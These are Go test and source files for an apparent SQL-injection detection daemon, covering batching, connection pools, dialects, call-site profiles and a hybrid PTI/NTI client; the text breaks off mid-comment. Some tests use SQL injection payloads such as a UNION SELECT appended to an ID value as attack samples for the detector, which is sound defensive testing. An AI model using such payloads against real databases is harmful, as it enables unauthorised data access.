func TestServerSetProfilesHotSwap(t *testing.T) {
	ln, srv := startServerWithOptions(t)
	c, err := Dial(ln)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	ctx := context.Background()

	reply, err := c.AnalyzeSiteContext(ctx, "plugin:records", benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile != nil {
		t.Fatalf("profile verdict before any store: %+v", reply.Profile)
	}
	srv.SetProfiles(trainedStore())
	reply, err = c.AnalyzeSiteContext(ctx, "plugin:records", attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile == nil || !reply.Profile.Attack {
		t.Errorf("swapped-in store not enforcing: %+v", reply.Profile)
	}
}

func TestPoolAndBatcherCarrySite(t *testing.T) {
	for _, batch := range []int{0, 4} {
		ln, _ := startServerWithOptions(t, WithProfiles(trainedStore()))
		p := DialPool(ln, PoolConfig{Size: 2, Timeout: 5 * time.Second, BatchSize: batch, BatchLinger: time.Millisecond})
		reply, err := p.AnalyzeSiteContext(context.Background(), "plugin:records", attackQuery)
		_ = p.Close()
		if err != nil {
			t.Fatalf("batch=%d: %v", batch, err)
		}
		if reply.Profile == nil || reply.Profile.Outcome != "unseen" || !reply.Profile.Attack {
			t.Errorf("batch=%d: profile = %+v", batch, reply.Profile)
		}
	}
}

func TestShardedPoolCarriesSite(t *testing.T) {
	addrs := []string{}
	for i := 0; i < 2; i++ {
		ln, _ := startServerWithOptions(t, WithProfiles(trainedStore()))
		addrs = append(addrs, ln)
	}
	sp, err := DialShardedPool(addrs, PoolConfig{Size: 1, Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	reply, err := sp.AnalyzeSiteContext(context.Background(), "plugin:records", attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile == nil || !reply.Profile.Attack {
		t.Errorf("sharded profile = %+v", reply.Profile)
	}
}

func TestDirectSiteTransport(t *testing.T) {
	d := NewDirect(newAnalyzer())
	defer d.Close()
	d.SetProfiles(trainedStore())
	reply, err := d.AnalyzeSiteContext(context.Background(), "plugin:records", attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile == nil || reply.Profile.Outcome != "unseen" || !reply.Profile.Attack {
		t.Errorf("direct profile = %+v", reply.Profile)
	}
}

func TestHybridClientProfileStage(t *testing.T) {
	d := NewDirect(newAnalyzer())
	d.SetProfiles(trainedStore())
	h := NewHybridClient(d, nti.MustNew(), core.PolicyTerminate)
	ctx := context.Background()

	// The profiled benign skeleton passes.
	v, err := h.CheckContextAt(ctx, "plugin:records", benignQuery, nil)
	if err != nil {
		t.Fatal(err)
	}
	if v.Attack {
		t.Errorf("benign profiled check flagged: %v", v.Reasons())
	}

	// A fragment-covered, NTI-invisible query with an unseen skeleton is
	// caught only by the profile stage.
	rebuilt := "SELECT * FROM records WHERE ID=5 OR ID=6 LIMIT 5"
	v, err = h.CheckContextAt(ctx, "plugin:records", rebuilt, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Profile.Attack {
		t.Fatalf("profile stage missed unseen skeleton: %+v", v)
	}
	if !v.Attack {
		t.Error("hybrid verdict must be attack")
	}

	// site-unknown is lenient by default...
	v, err = h.CheckContextAt(ctx, "plugin:untrained", benignQuery, nil)
	if err != nil {
		t.Fatal(err)
	}
	if v.Profile.Attack {
		t.Errorf("unknown site flagged without strict mode: %+v", v.Profile)
	}
	// ...and AuthorizeContextAt blocks on the profile verdict.
	if err := h.AuthorizeContextAt(ctx, "plugin:records", rebuilt, nil); err == nil {
		t.Error("AuthorizeContextAt allowed an unseen skeleton")
	}
	_ = h.Close()

	// Strict mode escalates site-unknown.
	d2 := NewDirect(newAnalyzer())
	d2.SetProfiles(trainedStore())
	hs := NewHybridClient(d2, nti.MustNew(), core.PolicyTerminate, WithStrictProfiles())
	defer hs.Close()
	v, err = hs.CheckContextAt(ctx, "plugin:untrained", benignQuery, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Profile.Attack {
		t.Error("strict mode must flag an unprofiled call site")
	}
}

// startServerWithOptions boots a TCP server with opts and returns its
// address and the server for hot-swap tests.
func startServerWithOptions(t *testing.T, opts ...ServerOption) (string, *Server) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(newAnalyzer(), opts...)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})
	return ln.Addr().String(), srv
}
