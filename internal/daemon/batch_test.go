package daemon

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"net"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestClientAnalyzeBatch(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	queries := []string{benignQuery, attackQuery, benignQuery}
	results, err := c.AnalyzeBatch(context.Background(), queries)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != len(queries) {
		t.Fatalf("%d results for %d queries", len(results), len(queries))
	}
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("item %d: %v", i, r.Err)
		}
	}
	if results[0].Reply.Attack || results[2].Reply.Attack {
		t.Error("benign items flagged")
	}
	if !results[1].Reply.Attack {
		t.Error("attack item missed")
	}
	// Token streams ride back per item, so the NTI side can reuse each
	// item's parse exactly like a single-request reply.
	if len(results[1].Reply.Tokens) == 0 {
		t.Error("batch item lost its token stream")
	}

	// Empty batch is a client-side no-op, not a wire request.
	results, err = c.AnalyzeBatch(context.Background(), nil)
	if err != nil || results != nil {
		t.Fatalf("empty batch = (%v, %v), want (nil, nil)", results, err)
	}
}

func TestPoolAnalyzeBatch(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	p := DialPool(addr, PoolConfig{Size: 2, Timeout: 5 * time.Second})
	defer p.Close()
	results, err := p.AnalyzeBatch(context.Background(), []string{attackQuery, benignQuery})
	if err != nil {
		t.Fatal(err)
	}
	if !results[0].Reply.Attack || results[1].Reply.Attack {
		t.Fatalf("verdicts out of order: %+v", results)
	}
}

// TestMicroBatcherCoalesces proves BatchSize actually batches: concurrent
// AnalyzeContext calls must reach the server inside "batch" frames, not as
// individual analyze requests.
func TestMicroBatcherCoalesces(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(newAnalyzer())
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		_ = srv.Serve(ln)
	}()
	defer func() {
		_ = srv.Close()
		<-serveDone
	}()
	p := DialPool(ln.Addr().String(), PoolConfig{
		Size:        2,
		Timeout:     5 * time.Second,
		BatchSize:   4,
		BatchLinger: 2 * time.Millisecond,
	})
	defer p.Close()

	const calls = 16
	var wg sync.WaitGroup
	errs := make([]error, calls)
	attacks := make([]bool, calls)
	for i := 0; i < calls; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			q := benignQuery
			if i%2 == 1 {
				q = attackQuery
			}
			reply, err := p.AnalyzeContext(context.Background(), q)
			if err != nil {
				errs[i] = err
				return
			}
			attacks[i] = reply.Attack
		}(i)
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("call %d: %v", i, err)
		}
	}
	for i, attack := range attacks {
		if want := i%2 == 1; attack != want {
			t.Fatalf("call %d: attack=%v, want %v — batcher mixed up result routing", i, attack, want)
		}
	}
	st := srv.Stats()
	if st.DaemonBatchOps == 0 {
		t.Fatal("no batch frames reached the server; the micro-batcher did not coalesce")
	}
	if st.DaemonBatchItems != calls {
		t.Fatalf("server saw %d batch items, want %d", st.DaemonBatchItems, calls)
	}
	if st.DaemonBatchOps >= calls {
		t.Fatalf("%d batch frames for %d calls; nothing was coalesced", st.DaemonBatchOps, calls)
	}
}

// TestMicroBatcherLingerFlushesPartialBatch: a lone call must not wait for
// a full batch — the linger timer flushes it.
func TestMicroBatcherLingerFlushesPartialBatch(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	p := DialPool(addr, PoolConfig{
		Size:        1,
		Timeout:     5 * time.Second,
		BatchSize:   64,
		BatchLinger: time.Millisecond,
	})
	defer p.Close()
	start := time.Now()
	reply, err := p.AnalyzeContext(context.Background(), benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("benign flagged")
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Fatalf("lone call took %v; linger flush did not fire", elapsed)
	}
}

// TestMicroBatcherCallerCancellation: a caller abandoning its slot must
// get ctx's error promptly, and the batcher must survive delivering the
// abandoned slot's result.
func TestMicroBatcherAbandonedCaller(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	p := DialPool(addr, PoolConfig{
		Size:        1,
		Timeout:     5 * time.Second,
		BatchSize:   64,
		BatchLinger: 50 * time.Millisecond,
	})
	defer p.Close()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := p.AnalyzeContext(ctx, benignQuery); !errors.Is(err, context.Canceled) {
		t.Fatalf("abandoned caller got %v, want context.Canceled", err)
	}
	// The batcher still flushes the abandoned item and stays usable.
	reply, err := p.AnalyzeContext(context.Background(), benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("benign flagged")
	}
}

// TestBatchPoisonedItemIsolated: one item with an expired budget fails
// alone; its siblings carry replies and the connection stays healthy.
func TestBatchPoisonedItemIsolated(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	resp, err := c.roundTrip(context.Background(), wireRequest{
		Op: "batch",
		Batch: []wireRequest{
			{Query: benignQuery},
			{Query: benignQuery, TimeoutMs: -1}, // already-expired budget
			{Query: attackQuery},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Batch) != 3 {
		t.Fatalf("%d items in reply, want 3", len(resp.Batch))
	}
	if resp.Batch[0].Err != "" || resp.Batch[0].Reply == nil || resp.Batch[0].Reply.Attack {
		t.Errorf("healthy sibling 0 = %+v", resp.Batch[0])
	}
	if resp.Batch[1].Err == "" || resp.Batch[1].Reply != nil {
		t.Errorf("poisoned item = %+v, want per-item error", resp.Batch[1])
	}
	if resp.Batch[2].Err != "" || resp.Batch[2].Reply == nil || !resp.Batch[2].Reply.Attack {
		t.Errorf("healthy sibling 2 = %+v", resp.Batch[2])
	}
	// The stream survived: a follow-up single request works.
	reply, err := c.Analyze(benignQuery)
	if err != nil {
		t.Fatalf("connection unhealthy after poisoned batch item: %v", err)
	}
	if reply.Attack {
		t.Error("benign flagged")
	}
}

// TestBatchItemCapRefusedOnHealthyStream: a batch above the item cap is
// refused whole, and the connection survives.
func TestBatchItemCapRefusedOnHealthyStream(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newAnalyzer(), WithMaxBatchItems(2))
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	defer func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-serveDone
	}()
	_, err := c.AnalyzeBatch(context.Background(), []string{benignQuery, benignQuery, benignQuery})
	if err == nil || !strings.Contains(err.Error(), "cap") {
		t.Fatalf("over-cap batch error = %v, want item-cap refusal", err)
	}
	if c.Broken() {
		t.Fatal("connection broken by an over-cap batch; the refusal must ride the healthy stream")
	}
	results, err := c.AnalyzeBatch(context.Background(), []string{benignQuery, attackQuery})
	if err != nil {
		t.Fatalf("batch at the cap after a refusal: %v", err)
	}
	if results[0].Err != nil || results[1].Err != nil || !results[1].Reply.Attack {
		t.Fatalf("results = %+v", results)
	}
}

// TestBatchEmptyRefused: an explicit empty batch frame is a protocol error
// answered on the healthy stream.
func TestBatchEmptyRefused(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	_, err := c.roundTrip(context.Background(), wireRequest{Op: "batch"})
	if err == nil || !strings.Contains(err.Error(), "empty batch") {
		t.Fatalf("empty batch error = %v", err)
	}
	if c.Broken() {
		t.Fatal("connection broken by an empty batch")
	}
}

// TestBatchNestedOpsRefusedPerItem: control verbs and nested batches
// inside a batch fail their own slot only.
func TestBatchNestedOpsRefusedPerItem(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	resp, err := c.roundTrip(context.Background(), wireRequest{
		Op: "batch",
		Batch: []wireRequest{
			{Op: "stats"},
			{Query: benignQuery},
			{Op: "batch", Batch: []wireRequest{{Query: benignQuery}}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if resp.Batch[0].Err == "" || resp.Batch[2].Err == "" {
		t.Errorf("nested control ops not refused: %+v", resp.Batch)
	}
	if resp.Batch[1].Err != "" || resp.Batch[1].Reply == nil {
		t.Errorf("analyze sibling dragged down: %+v", resp.Batch[1])
	}
}

// TestBatchPartialReplyIsProtocolError: a server answering a batch with
// the wrong item count is a protocol violation — the whole call fails —
// but the frame itself was well-formed, so the connection is not broken.
func TestBatchPartialReplyIsProtocolError(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	// A fake daemon that answers every batch with a single-item reply.
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		dec := json.NewDecoder(bufio.NewReader(serverSide))
		enc := json.NewEncoder(serverSide)
		for {
			var req wireRequest
			if err := dec.Decode(&req); err != nil {
				return
			}
			resp := wireResponse{Batch: []wireResponse{{Reply: &AnalysisReply{}}}}
			if err := enc.Encode(resp); err != nil {
				return
			}
		}
	}()
	c := NewClient(clientSide)
	defer func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-serveDone
	}()
	_, err := c.AnalyzeBatch(context.Background(), []string{benignQuery, attackQuery})
	if err == nil || !strings.Contains(err.Error(), "batch reply has 1 items, want 2") {
		t.Fatalf("short reply error = %v", err)
	}
	if c.Broken() {
		t.Fatal("count mismatch broke the connection; the stream itself was in sync")
	}
}

// TestBatchOversizedFrameBreaksConn: a batch frame exceeding the request
// byte limit is a framing fault — the server drops the connection, exactly
// like an oversized single request.
func TestBatchOversizedFrameBreaksConn(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newAnalyzer(), WithMaxRequestBytes(256))
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	defer func() {
		_ = c.Close()
		_ = serverSide.Close()
	}()
	big := strings.Repeat("SELECT * FROM records WHERE ID=5 LIMIT 5; ", 32)
	_, err := c.AnalyzeBatch(context.Background(), []string{big, big})
	if err == nil {
		t.Fatal("oversized batch frame succeeded past the byte limit")
	}
	select {
	case <-serveDone:
	case <-time.After(5 * time.Second):
		t.Fatal("server kept the connection after an oversized frame")
	}
	if !c.Broken() {
		t.Fatal("client still healthy after the server dropped the stream")
	}
}

// TestWireBackCompatOldClientFrames: frames an old single-request client
// sends — no op, no batch field — must keep working against the new
// server, and a new client's single-request frames must stay byte-
// compatible (no new keys) with old servers.
func TestWireBackCompatOldClientFrames(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newAnalyzer())
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		srv.ServeConn(serverSide)
	}()
	defer func() {
		_ = clientSide.Close()
		_ = serverSide.Close()
		<-serveDone
	}()
	dec := json.NewDecoder(bufio.NewReader(clientSide))
	type raw map[string]any
	send := func(frame string) raw {
		t.Helper()
		if _, err := clientSide.Write([]byte(frame + "\n")); err != nil {
			t.Fatal(err)
		}
		var resp raw
		if err := dec.Decode(&resp); err != nil {
			t.Fatal(err)
		}
		return resp
	}

	resp := send(`{"query":"` + benignQuery + `"}`)
	if resp["error"] != nil || resp["reply"] == nil {
		t.Fatalf("old-style analyze frame = %v", resp)
	}
	resp = send(`{"op":"analyze","query":"` + attackQuery + `","timeout_ms":5000}`)
	if resp["error"] != nil || resp["reply"].(map[string]any)["attack"] != true {
		t.Fatalf("old-style analyze with budget = %v", resp)
	}
	resp = send(`{"op":"stats"}`)
	if resp["error"] != nil || resp["stats"] == nil {
		t.Fatalf("old-style stats frame = %v", resp)
	}

	// New client, old server: the single-request frame must not have
	// grown any field an old server would choke on or misread.
	frame, err := json.Marshal(wireRequest{Query: benignQuery})
	if err != nil {
		t.Fatal(err)
	}
	var keys map[string]any
	if err := json.Unmarshal(frame, &keys); err != nil {
		t.Fatal(err)
	}
	if len(keys) != 1 || keys["query"] == nil {
		t.Fatalf("single-request frame = %s; new fields must be omitempty", frame)
	}
}

// FuzzBatchFrame drives the batch verb with arbitrary queries, item
// counts and budgets. The invariant: a well-formed batch frame never
// panics the server, and the reply carries exactly one response per item
// (or a whole-batch error for empty/over-cap batches) on a stream that
// stays healthy.
func FuzzBatchFrame(f *testing.F) {
	f.Add("SELECT * FROM records WHERE ID=5 LIMIT 5", "SELECT 1", uint8(2), int64(0), "")
	f.Add("", "x", uint8(0), int64(-1), "")
	f.Add("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5", "", uint8(7), int64(1<<62), "deadbeefdeadbeef")
	f.Add("q", "q", uint8(255), int64(1), "\x00\xffgarbage")
	f.Add("SELECT 1", "SELECT 1", uint8(3), int64(0), "mixed\ncase")
	analyzer := newAnalyzer()
	f.Fuzz(func(t *testing.T, q1, q2 string, n uint8, timeoutMs int64, version string) {
		if len(q1) > 1<<10 || len(q2) > 1<<10 || len(version) > 1<<8 {
			t.Skip()
		}
		srv := NewServer(analyzer, WithMaxBatchItems(64))
		clientSide, serverSide := net.Pipe()
		done := make(chan struct{})
		go func() {
			defer close(done)
			srv.ServeConn(serverSide)
		}()
		c := NewClient(clientSide)
		defer func() {
			_ = c.Close()
			_ = serverSide.Close()
			<-done
		}()
		items := make([]wireRequest, int(n)%96)
		for i := range items {
			if i%2 == 0 {
				items[i] = wireRequest{Query: q1, TimeoutMs: timeoutMs}
			} else {
				// Odd items carry the fuzzed version pin directly; even ones
				// inherit the frame-level pin. Against this unversioned
				// server any non-empty pin must yield a per-item refusal on
				// the healthy stream, never fewer replies than items.
				items[i] = wireRequest{Query: q2, Version: version}
			}
		}
		resp, err := c.roundTrip(context.Background(), wireRequest{Op: "batch", Batch: items, Version: version})
		switch {
		case len(items) == 0 || len(items) > 64:
			if err == nil {
				t.Fatalf("batch of %d items accepted, want whole-batch refusal", len(items))
			}
		case err != nil:
			t.Fatalf("well-formed batch of %d failed: %v", len(items), err)
		case len(resp.Batch) != len(items):
			t.Fatalf("%d replies for %d items", len(resp.Batch), len(items))
		}
		if c.Broken() {
			t.Fatal("healthy-stream batch broke the connection")
		}
		// The stream survived whatever the batch did.
		if _, err := c.Analyze("SELECT * FROM records WHERE ID=5 LIMIT 5"); err != nil {
			t.Fatalf("follow-up request failed: %v", err)
		}
	})
}
