package daemon

import (
	"bufio"
	"encoding/json"
	"net"
	"strings"
	"testing"

	"joza/internal/core"
	"joza/internal/fragments"
	"joza/internal/nti"
	"joza/internal/pti"
	"joza/internal/sqltoken"
)

// newDialectAnalyzer builds a PTI analyzer whose fragments and lexing run
// under d.
func newDialectAnalyzer(d sqltoken.Dialect) *pti.Cached {
	set := fragments.NewSetDialect(d, []string{
		"SELECT * FROM records WHERE ID=",
		" LIMIT 5",
	})
	return pti.NewCached(pti.New(set, pti.WithDialect(d)), pti.CacheQueryAndStructure, 128)
}

// TestWireDialectOmitsMySQL pins the wire compatibility rule: the default
// dialect never appears in a frame, so default clients stay byte-identical
// to the pre-dialect protocol.
func TestWireDialectOmitsMySQL(t *testing.T) {
	if got := wireDialect(sqltoken.MySQL); got != "" {
		t.Errorf("wireDialect(MySQL) = %q, want empty", got)
	}
	if got := wireDialect(sqltoken.Postgres); got != "postgres" {
		t.Errorf("wireDialect(Postgres) = %q", got)
	}
}

// TestClientDialectMismatchRidesHealthyStream pins the server refusal: a
// Postgres-stamped request to a MySQL daemon fails with a per-request
// error, and the same connection keeps serving matched requests.
func TestClientDialectMismatchRidesHealthyStream(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	c.SetDialect(sqltoken.Postgres)
	if _, err := c.Analyze(benignQuery); err == nil || !strings.Contains(err.Error(), "dialect mismatch") {
		t.Fatalf("cross-dialect analyze error = %v, want dialect mismatch", err)
	}
	if c.Broken() {
		t.Fatal("dialect refusal broke the connection")
	}
	c.SetDialect(sqltoken.MySQL)
	reply, err := c.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("benign flagged after dialect refusal")
	}
}

// TestPostgresDaemonEndToEnd runs a matched Postgres client/daemon pair
// and pins that a default (MySQL) client is refused by it.
func TestPostgresDaemonEndToEnd(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newDialectAnalyzer(sqltoken.Postgres))
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	defer func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-done
	}()

	// Default client: absent dialect means MySQL, which this daemon refuses.
	if _, err := c.Analyze(benignQuery); err == nil || !strings.Contains(err.Error(), "dialect mismatch") {
		t.Fatalf("MySQL request to Postgres daemon: err = %v", err)
	}

	c.SetDialect(sqltoken.Postgres)
	reply, err := c.Analyze("SELECT * FROM records WHERE ID=$1 LIMIT 5")
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Errorf("benign $1 query flagged by Postgres daemon: %+v", reply.Reasons)
	}
}

// TestWireDialectRawFrames drives raw frames over a pipe — an old client
// (no dialect field) and corrupt dialect values — and pins that every
// refusal rides the still-healthy stream.
func TestWireDialectRawFrames(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newAnalyzer())
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	defer func() {
		_ = clientSide.Close()
		_ = serverSide.Close()
		<-done
	}()
	enc := json.NewEncoder(clientSide)
	dec := json.NewDecoder(bufio.NewReader(clientSide))

	roundTrip := func(frame map[string]any) wireResponse {
		t.Helper()
		var resp wireResponse
		errc := make(chan error, 1)
		go func() { errc <- enc.Encode(frame) }()
		if err := dec.Decode(&resp); err != nil {
			t.Fatal(err)
		}
		if err := <-errc; err != nil {
			t.Fatal(err)
		}
		return resp
	}

	// An old client's frame has no dialect field at all: it means MySQL and
	// analyzes normally on a MySQL daemon.
	if resp := roundTrip(map[string]any{"query": benignQuery}); resp.Err != "" || resp.Reply == nil {
		t.Fatalf("old-client frame refused: %+v", resp)
	}
	// Unknown dialect names are refused per request.
	if resp := roundTrip(map[string]any{"query": benignQuery, "dialect": "oracle"}); resp.Err == "" || !strings.Contains(resp.Err, "oracle") {
		t.Fatalf("unknown dialect: %+v", resp)
	}
	// A mixed batch: the plain item analyzes, the cross-dialect and unknown
	// items each fail only their own slot.
	resp := roundTrip(map[string]any{"op": "batch", "batch": []map[string]any{
		{"query": benignQuery},
		{"query": benignQuery, "dialect": "postgres"},
		{"query": benignQuery, "dialect": "oracle"},
	}})
	if resp.Err != "" || len(resp.Batch) != 3 {
		t.Fatalf("batch response = %+v", resp)
	}
	if resp.Batch[0].Err != "" || resp.Batch[0].Reply == nil {
		t.Errorf("plain item failed: %+v", resp.Batch[0])
	}
	if !strings.Contains(resp.Batch[1].Err, "dialect mismatch") {
		t.Errorf("cross-dialect item err = %q", resp.Batch[1].Err)
	}
	if !strings.Contains(resp.Batch[2].Err, "oracle") {
		t.Errorf("unknown-dialect item err = %q", resp.Batch[2].Err)
	}
	// An outer-frame dialect is the default for items that set none.
	resp = roundTrip(map[string]any{"op": "batch", "dialect": "postgres", "batch": []map[string]any{
		{"query": benignQuery},
	}})
	if resp.Err != "" || len(resp.Batch) != 1 || !strings.Contains(resp.Batch[0].Err, "dialect mismatch") {
		t.Fatalf("outer-frame dialect not inherited: %+v", resp)
	}
	// The connection survived all of it.
	if resp := roundTrip(map[string]any{"query": benignQuery}); resp.Err != "" || resp.Reply == nil {
		t.Fatalf("stream unhealthy after refusals: %+v", resp)
	}
}

// TestPoolDialect pins the pool-level stamping: a Postgres pool against a
// Postgres daemon analyzes (including through the batch verb), and against
// a MySQL daemon fails without burning reconnection attempts.
func TestPoolDialect(t *testing.T) {
	addr := startTCPServer(t, newDialectAnalyzer(sqltoken.Postgres))
	pool := NewPool(func() (net.Conn, error) { return net.Dial("tcp", addr) },
		PoolConfig{Size: 1, Dialect: sqltoken.Postgres})
	defer pool.Close()
	if _, err := pool.Analyze("SELECT * FROM records WHERE ID=$1 LIMIT 5"); err != nil {
		t.Fatalf("matched pool analyze: %v", err)
	}
	results, err := pool.AnalyzeBatch(t.Context(), []string{benignQuery, benignQuery})
	if err != nil {
		t.Fatalf("matched pool batch: %v", err)
	}
	for i, r := range results {
		if r.Err != nil {
			t.Errorf("batch item %d: %v", i, r.Err)
		}
	}

	myAddr := startTCPServer(t, newAnalyzer())
	crossed := NewPool(func() (net.Conn, error) { return net.Dial("tcp", myAddr) },
		PoolConfig{Size: 1, Dialect: sqltoken.Postgres})
	defer crossed.Close()
	if _, err := crossed.Analyze(benignQuery); err == nil || !strings.Contains(err.Error(), "dialect mismatch") {
		t.Fatalf("cross-dialect pool analyze err = %v", err)
	}
	if crossed.Dials() != 1 {
		t.Errorf("dialect refusal redialed: %d dials", crossed.Dials())
	}
}

// TestHybridClientDialect runs the full Postgres hybrid — daemon-side PTI,
// application-side NTI, dialect stamped end to end — and pins that benign
// Postgres traffic passes while the daemon refusal path degrades per the
// configured policy.
func TestHybridClientDialect(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newDialectAnalyzer(sqltoken.Postgres))
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	c.SetDialect(sqltoken.Postgres)
	defer func() {
		_ = serverSide.Close()
		<-done
	}()

	h := NewHybridClient(c, nti.MustNew(nti.WithDialect(sqltoken.Postgres)), core.PolicyTerminate,
		WithDialect(sqltoken.Postgres))
	defer h.Close()
	v, err := h.Check("SELECT * FROM records WHERE ID=$1 LIMIT 5",
		[]nti.Input{{Source: "get", Name: "id", Value: "5"}})
	if err != nil {
		t.Fatal(err)
	}
	if v.Attack {
		t.Errorf("benign Postgres check flagged: %v", v.Reasons())
	}
	v, err = h.Check(attackQuery, []nti.Input{{Source: "get", Name: "id", Value: "-1 UNION SELECT username()"}})
	if err != nil {
		t.Fatal(err)
	}
	if !v.Attack {
		t.Error("attack missed by Postgres hybrid")
	}
}
