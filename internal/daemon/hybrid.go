package daemon

import (
	"fmt"
	"io"
	"time"

	"joza/internal/audit"
	"joza/internal/core"
	"joza/internal/metrics"
	"joza/internal/nti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// DegradeMode selects what a HybridClient does with a check when the PTI
// transport is unavailable (daemon restart, network fault, exhausted
// reconnection attempts).
type DegradeMode int

const (
	// DegradeError propagates the transport error to the caller, who
	// decides (the legacy behaviour and the default).
	DegradeError DegradeMode = iota
	// DegradeFailClosed treats daemon outage as an attack: no query runs
	// unverified, at the cost of availability during the outage.
	DegradeFailClosed
	// DegradeFailOpen skips PTI and serves the NTI-only verdict: the
	// request path stays up and the hybrid's other half still screens
	// every input, at the cost of PTI coverage during the outage.
	DegradeFailOpen
)

// String names the mode for logs and flags.
func (m DegradeMode) String() string {
	switch m {
	case DegradeFailClosed:
		return "fail-closed"
	case DegradeFailOpen:
		return "fail-open"
	default:
		return "error"
	}
}

// HybridClient composes the deployed pieces exactly as Figure 5 shows:
// queries go to the PTI daemon first; the returned token stream feeds the
// in-application NTI analysis; the query is safe iff both agree. Verdicts
// are recorded in a metrics collector and, when configured, blocked
// queries are written to the audit log — the same operator surface the
// in-process Guard provides.
type HybridClient struct {
	transport Transport
	nti       *nti.Analyzer
	policy    core.Policy
	degrade   DegradeMode
	collector *metrics.Collector
	audit     *audit.Logger
	tracer    *trace.Tracer
}

// HybridOption configures a HybridClient.
type HybridOption func(*HybridClient)

// WithDegradeMode sets the degradation policy applied when the transport
// reports an error (default DegradeError).
func WithDegradeMode(m DegradeMode) HybridOption {
	return func(h *HybridClient) { h.degrade = m }
}

// WithCollector records verdicts into c — shared, for example, across
// several clients of one daemon. By default each HybridClient gets its
// own collector, readable via Metrics.
func WithCollector(c *metrics.Collector) HybridOption {
	return func(h *HybridClient) { h.collector = c }
}

// WithAuditLog writes one JSON line per blocked query to w, the same
// record shape the in-process Guard writes.
func WithAuditLog(w io.Writer) HybridOption {
	return func(h *HybridClient) { h.audit = audit.NewLogger(w) }
}

// WithPolicy overrides the recovery policy passed to NewHybridClient.
func WithPolicy(p core.Policy) HybridOption {
	return func(h *HybridClient) { h.policy = p }
}

// WithoutNTI disables the application-side NTI component (PTI-only
// deployments), overriding the analyzer passed to NewHybridClient.
func WithoutNTI() HybridOption {
	return func(h *HybridClient) { h.nti = nil }
}

// WithTracing samples checks into trace spans per cfg. When the daemon
// also traces, its span rides back on the analyze reply and is merged, so
// one trace shows client-side NTI timing next to daemon-side lexing, cache
// outcome and cover evidence. Traced checks feed the collector's
// per-stage histograms.
func WithTracing(cfg trace.Config) HybridOption {
	return func(h *HybridClient) { h.tracer = trace.New(cfg) }
}

// NewHybridClient builds the application-side hybrid over a transport.
// ntiAnalyzer may be nil to disable NTI (PTI-only deployments).
func NewHybridClient(transport Transport, ntiAnalyzer *nti.Analyzer, policy core.Policy, opts ...HybridOption) *HybridClient {
	h := &HybridClient{transport: transport, nti: ntiAnalyzer, policy: policy}
	for _, o := range opts {
		o(h)
	}
	if h.collector == nil {
		h.collector = metrics.NewCollector()
	}
	return h
}

// Check returns the hybrid verdict for query given the request's inputs.
// When the transport fails, the configured DegradeMode decides: propagate
